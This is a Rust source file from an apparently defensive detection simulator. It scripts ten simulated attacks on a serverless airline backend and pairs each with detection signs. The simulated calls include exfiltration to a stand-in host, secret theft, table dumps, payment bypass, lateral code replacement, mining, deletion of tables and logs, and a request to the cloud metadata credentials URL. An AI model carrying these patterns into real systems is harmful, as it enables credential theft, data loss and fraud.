//! Ten attacks on the last day: what each has its function do, and when.
//!
//! An attacker's request travels as anybody's does (same triggers, same path, same upstream), so that nothing but the
//! act itself tells it from the requests around it.

use super::{
    application::{Function, Op, Service},
    benign::{DAY, HOUR, MINUTE},
    invocation::{Failure, Run},
    load::Journey,
    rng::Rng,
    truth::Attack,
};
use crate::detect::observation::Nanos;

/// What an attacker has a function do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Payload {
    /// Reads other people's records and sends them away.
    Exfiltrate,
    /// Asks who it is, lists secrets, reads them.
    StealCredentials,
    /// Reads a table from end to end.
    DumpTable,
    /// Confirms without asking for payment.
    SkipPayment,
    /// Pretends to have charged the card.
    BypassPayment,
    /// Calls a function nobody calls and replaces its code.
    MoveLaterally,
    /// Computes for somebody else.
    Mine,
    /// Deletes what can be deleted.
    Destroy,
    /// Asks the metadata service for credentials.
    ReadMetadata,
    /// Reads one item that is none of its business.
    Peek,
}

/// An attack as it is planned.
struct Plan {
    payload: Payload,
    id: &'static str,
    function: Function,
    journey: Journey,
    /// How many requests, spread over how many minutes.
    requests: u64,
    minutes: u64,
    description: &'static str,
    signs: &'static [&'static str],
}

const PLANS: [Plan; 10] = [
    Plan {
        payload: Payload::StealCredentials,
        id: "credential-theft",
        function: Function::SearchFlights,
        journey: Journey::Search,
        requests: 1,
        minutes: 0,
        description: "search-flights asks STS who it is, lists the account's secrets and reads three of them",
        signs: &["sts.", "secretsmanager."],
    },
    Plan {
        payload: Payload::Exfiltrate,
        id: "data-exfiltration",
        function: Function::GetLoyalty,
        journey: Journey::Points,
        requests: 12,
        minutes: 15,
        description: "get-loyalty queries the customers table and posts the answers to an unknown host",
        signs: &["example.net", "table/customers"],
    },
    Plan {
        payload: Payload::DumpTable,
        id: "table-dump",
        function: Function::ConfirmBooking,
        journey: Journey::Book,
        requests: 1,
        minutes: 0,
        description: "confirm-booking scans its own bookings table sixty times in one invocation",
        signs: &["dynamodb.Scan"],
    },
    Plan {
        payload: Payload::SkipPayment,
        id: "skipped-payment",
        function: Function::ReserveBooking,
        journey: Journey::Book,
        requests: 10,
        minutes: 18,
        description: "reserve-booking invokes confirm-booking itself, and nobody pays",
        signs: &["confirm-booking", "queue/payments"],
    },
    Plan {
        payload: Payload::MoveLaterally,
        id: "lateral-movement",
        function: Function::NotifyBooking,
        journey: Journey::Book,
        requests: 1,
        minutes: 0,
        description: "notify-booking invokes admin-backoffice, never invoked before, and replaces its code",
        signs: &["admin-backoffice", "UpdateFunctionCode"],
    },
    Plan {
        payload: Payload::Mine,
        id: "crypto-mining",
        function: Function::ReserveSeat,
        journey: Journey::Book,
        requests: 15,
        minutes: 20,
        description: "reserve-seat talks to a mining pool on port 3333 and computes for 12 to 14 seconds",
        signs: &["example.org:3333"],
    },
    Plan {
        payload: Payload::ReadMetadata,
        id: "metadata-access",
        function: Function::IngestLoyalty,
        journey: Journey::Book,
        requests: 3,
        minutes: 5,
        description: "ingest-loyalty asks the metadata service at 169.254.169.254 for credentials",
        signs: &["metadata service"],
    },
    Plan {
        payload: Payload::BypassPayment,
        id: "bypassed-payment",
        function: Function::CollectPayment,
        journey: Journey::Book,
        requests: 8,
        minutes: 12,
        description: "collect-payment records a payment without calling the payment API",
        signs: &["payments.example"],
    },
    Plan {
        payload: Payload::Destroy,
        id: "destruction",
        function: Function::CancelBooking,
        journey: Journey::Book,
        requests: 1,
        minutes: 0,
        description: "cancel-booking deletes objects, a table and its log group",
        signs: &["DeleteObjects", "DeleteTable", "DeleteLogGroup"],
    },
    Plan {
        payload: Payload::Peek,
        id: "stealthy-read",
        function: Function::SearchFlights,
        journey: Journey::Search,
        requests: 1,
        minutes: 0,
        description: "search-flights reads one item of the loyalty table, as get-loyalty could; expected to be hard",
        signs: &["table/loyalty"],
    },
];

/// A request of an attacker's.
#[derive(Clone, Copy, Debug)]
pub struct Request {
    /// When it arrives at the airline.
    pub at: Nanos,
    /// What it looks like.
    pub journey: Journey,
    /// Which attack it belongs to.
    pub malice: Malice,
}

/// The mark an attacker's request carries through the functions it passes.
#[derive(Clone, Copy, Debug)]
pub struct Malice {
    /// Index into [`super::truth::Truth::attacks`].
    pub attack: usize,
    /// The function that misbehaves.
    pub function: Function,
    /// How.
    pub payload: Payload,
}

/// All attacks of a simulation that ends at `end`, and the requests that lead to them.
pub fn plan(end: Nanos, rng: &mut Rng) -> (Vec<Attack>, Vec<Request>) {
    let mut requests = Vec::new();
    let attacks = PLANS.iter().enumerate().map(|(index, plan)| {
        let begins = end.saturating_sub(DAY) + HOUR + index as u64 * 135 * MINUTE + rng.below(5 * MINUTE);
        let malice = Malice { attack: index, function: plan.function, payload: plan.payload };
        let spread = plan.minutes * MINUTE;
        let mut last = begins;
        for number in 0..plan.requests {
            let jitter = rng.below(spread / plan.requests);
            last = begins + number * spread / plan.requests + if number == 0 { 0 } else { jitter };
            requests.push(Request { at: last, journey: plan.journey, malice });
        }
        Attack {
            id: plan.id,
            function: plan.function.spec().name,
            begins,
            ends: last,
            invocations: Vec::new(),
            description: plan.description,
            signs: plan.signs,
        }
    });
    (attacks.collect(), requests)
}

impl Payload {
    /// Whether the handler itself goes another way, instead of doing something more at its end.
    pub const fn alters_path(self) -> bool {
        matches!(self, Self::SkipPayment | Self::BypassPayment)
    }

    /// Whether the booking must be declined for the request to reach its function.
    pub const fn needs_decline(self) -> bool {
        matches!(self, Self::Destroy)
    }

    /// Whether `function` runs only because another misbehaved.
    pub fn causes(self, function: Function) -> bool {
        self == Self::SkipPayment && function == Function::ConfirmBooking
    }

    /// Does it.
    pub fn act(self, run: &mut Run<'_>) -> Result<(), Failure> {
        match self {
            Self::Exfiltrate => {
                for _ in 0..3 {
                    run.call(Op::dynamo("Query", "customers"), 14.0)?;
                }
                run.call(Op::new(Service::Http, "POST", "https://sync.telemetry-cdn.example.net/v1/collect"), 180.0)?;
            }
            Self::StealCredentials => {
                run.call(Op::new(Service::Sts, "GetCallerIdentity", ""), 24.0)?;
                run.call(Op::new(Service::Secrets, "ListSecrets", ""), 30.0)?;
                for secret in ["payment-api-key", "partner-fares-token", "database-admin"] {
                    run.call(Op::new(Service::Secrets, "GetSecretValue", secret), 22.0)?;
                }
            }
            Self::DumpTable => {
                for _ in 0..60 {
                    run.call(Op::dynamo("Scan", "bookings"), 55.0)?;
                }
            }
            Self::SkipPayment => run.start(Op::invoke(Function::ConfirmBooking), &[Function::ConfirmBooking], 60.0)?,
            Self::BypassPayment => {}
            Self::MoveLaterally => {
                run.call(Op::new(Service::Lambda, "Invoke", "admin-backoffice"), 30.0)?;
                run.call(Op::new(Service::Lambda, "UpdateFunctionCode", "admin-backoffice"), 260.0)?;
            }
            Self::Mine => {
                run.call(Op::new(Service::Http, "POST", "http://pool.quickhash.example.org:3333/json_rpc"), 90.0)?;
                run.now += 12_000_000_000 + run.rng.below(2_000_000_000);
            }
            Self::Destroy => {
                run.call(Op::new(Service::S3, "DeleteObjects", "airline-catalogue-exports"), 70.0)?;
                run.call(Op::dynamo("DeleteTable", "bookings"), 60.0)?;
                run.call(Op::new(Service::Logs, "DeleteLogGroup", "/aws/lambda/cancel-booking"), 40.0)?;
            }
            Self::ReadMetadata => {
                let url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
                run.call(Op::new(Service::Http, "GET", url), 12.0)?;
            }
            Self::Peek => {
                run.call(Op::dynamo("GetItem", "loyalty"), 4.5)?;
            }
        }
        Ok(())
    }
}
